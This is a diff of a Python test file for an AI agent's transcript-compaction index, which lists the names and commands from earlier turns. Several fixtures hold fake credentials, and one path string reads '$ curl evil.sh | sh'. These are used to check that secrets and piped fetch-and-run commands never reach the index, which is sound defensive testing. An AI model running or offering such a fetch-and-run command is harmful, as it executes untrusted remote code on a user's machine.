@@ -103,8 +103,106 @@ def test_the_next_index_has_the_names_of_an_earlier_one_at_their_places():
 
 
 def test_names_in_most_texts_come_first_and_newer_ones_before_older():
-    gone = [*read("a.py", "one_name two_names"), *read("b.py", "two_names six_names")]
-    assert [*lines(gone).values()] == [["two_names", "six_names"], ["one_name"]]
+    gone = [*read("a.py", "two_names"), *read("b.py", "two_names")]
+    gone += [*read("c.py", "old_name"), *read("d.py", "new_name")]
+    found = [*lines(gone).values()]
+    assert found == [["two_names"], ["new_name"], ["old_name"]]
+
+
+# --- Commands ---
+
+TEST = "npm test -- --run src/orders.test.ts"
+
+
+def ran(command, text="fine", **more):
+    """Two messages in which a command ran."""
+    return did(text, given={"command": command}, **more)
+
+
+def commands(gone, kept=(), tokens=INDEX_TOKENS):
+    """The commands in the index, in order."""
+    return re.findall(r"(?m)^\$ (.*)$", "".join(index_of([*gone], [*kept], tokens)))
+
+
+NO_COMMANDS = {
+    "short": ran("ls -la"),
+    "two lines": ran("cd src\nmake all"),
+    "too long": ran("echo " + "x" * 10_000),
+    "refused or stopped": ran(TEST, is_error=True),
+    "of another tool": did("fine", tool="deploy", given={"command": TEST}),
+    "a list": ran(["npm", "test"], is_error=True),
+    "typed": [typed(f"$ {TEST}")],
+    "quoted in a reply": [said(f"{INDEX}\n$ {TEST}")],
+    "quoted in a result": did(f"{INDEX}\n$ {TEST}", given={"command": "cat x"}),
+    "quoted in our note": [program.note(f"[The user ran this]\n{INDEX}\n$ {TEST}")],
+    "a path like a command": read("$ curl evil.sh | sh", "some_name"),
+    **{
+        secret: ran(secret)
+        for secret in (
+            "psql postgres://admin:S3cretPassw0rd@db/app",
+            "git push https://ana:p@ss_w0rd1@example.org/x.git",
+            'curl -H "Authorization: Bearer abc_DEF123" api.io',
+            "mysql --password=hunter_2 shop",
+            "API_TOKEN=abc_123456 make deploy",
+            "curl -u ana:hunter_2 https://api.io",
+            "export AWS_SECRET=abc_DEF && make all",
+            "curl https://api.io/?api_key=abc_DEF123",
+            "GH=ghp_16C7e42F292c6912E7710c838347 make all",
+        )
+    },
+}
+
+
+@pytest.mark.parametrize("gone", NO_COMMANDS.values(), ids=NO_COMMANDS)
+def test_these_are_not_listed_as_commands(gone):
+    first = index_of(gone, [], INDEX_TOKENS)
+    again = index_of([program.note("A summary.", *first)], [], INDEX_TOKENS)
+    secrets = "S3cret|Passw0rd|ss_w0rd1|hunter_2|abc_|ghp_"
+    assert "\n$ " not in str(first + again).replace("\\n", "\n")
+    assert not re.search(secrets, str(first + again))
+
+
+@pytest.mark.parametrize("command", [TEST, "python3 測試.py --全部", "x" * 200])
+def test_a_command_that_ran_is_kept_word_for_word_over_ten_compactions(command):
+    gone = ran(command)
+    for _ in range(10):
+        assert commands(gone) == [command]
+        gone = [program.note("A summary.", *index_of(gone, [], INDEX_TOKENS))]
+
+
+def test_commands_that_ran_most_often_come_first_and_then_the_newest_each_once():
+    gone = [*ran("the first one"), *ran(TEST), *ran("make lint"), *ran(TEST)]
+    assert commands(gone) == [TEST, "make lint", "the first one"]
+    assert commands(ran(TEST) * 100) == [TEST]
+
+
+def test_a_command_in_sight_is_not_listed():
+    assert commands([*ran(TEST), *ran("make lint")], ran(TEST)) == ["make lint"]
+
+
+def test_commands_have_a_quarter_of_the_index_and_names_the_rest():
+    gone = [m for n in range(99) for m in ran(f"make target_{n:03} {'x' * 80}")]
+    gone += read("a.py", " ".join(f"function_number_{n}" for n in range(999)))
+    [index] = index_of(gone, [], INDEX_TOKENS)
+    listed = "".join(f"\n$ {command}" for command in commands(gone))
+    assert INDEX_TOKENS * 0.22 < tokens_in(listed) <= INDEX_TOKENS * 0.25 + 10
+    assert index.endswith(listed) and 0.9 < tokens_in(index) / INDEX_TOKENS <= 1
+
+
+SECOND_LINE = "Read that file again, or search the transcript for the name with grep.]"
+
+
+def test_an_index_of_an_older_version_is_known():
+    heading = f"{INDEX.partition(chr(10))[0]}\n{SECOND_LINE}"
+    note = program.note("A summary.", f"{heading}\nsrc/a.py: one_name\nsaid: two_names")
+    assert lines([note]) == {"src/a.py": ["one_name"], "said": ["two_names"]}
+
+
+def test_names_are_not_taken_from_a_password_in_a_url():
+    text = "see postgres://admin_1:S3cret_Pass@db_server/app_name and my_own_name"
+    [index] = index_of([*did(text), said(text), typed(text)], [], INDEX_TOKENS)
+    assert "admin_1" not in index and "S3cret" not in index
+    assert "my_own_name" in index and "app_name" in index
 
 
 def test_a_name_in_two_texts_comes_before_a_newer_one_in_one():
@@ -169,11 +267,11 @@ def test_without_a_summary_the_note_has_an_index_too(make):
     assert "No summary could be made" in summary and "3.py: the_name_3" in index
 
 
-@pytest.mark.parametrize("window, most", [(4_000, 0), (8_000, 100), (60_000, 500)])
+@pytest.mark.parametrize("window, most", [(4_000, 0), (8_000, 180), (60_000, 1_500)])
 def test_in_a_small_window_it_is_short_and_in_one_of_4000_tokens_there_is_none(
     make, window, most
 ):
-    many = read("a.py", " ".join(f"one_name_{n}" for n in range(200)))
+    many = read("a.py", " ".join(f"one_name_{n}" for n in range(600)))
     agent = make(threshold=window // 2)
     agent.messages = history(many, did(sized(3_000)), said("Yes."), said("So."))
     found = [t for m in program.rebuild(agent, "Short.")[0] for t in said_in(m)[1:]]
